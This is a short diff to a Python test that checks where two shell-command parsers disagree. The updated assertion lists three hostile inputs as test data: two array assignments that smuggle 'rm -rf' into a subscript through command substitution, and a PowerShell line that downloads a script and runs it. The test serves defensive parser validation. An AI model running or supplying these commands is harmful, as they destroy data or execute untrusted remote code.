@@ -178,4 +178,8 @@ def test_another_parser_sees_the_same_programs():
         if sorted({*named_by_us(text)} - OTHERWISE) != sorted({*theirs}):
             different.append(text)
 
-    assert different == ["arr[$(rm -rf /)]=1", "iex (iwr https://example.com/x.ps1)"]
+    assert sorted(different) == [
+        "a[$(rm -rf ~)]=1",
+        "arr[$(rm -rf /)]=1",
+        "iex (iwr https://example.com/x.ps1)",
+    ]
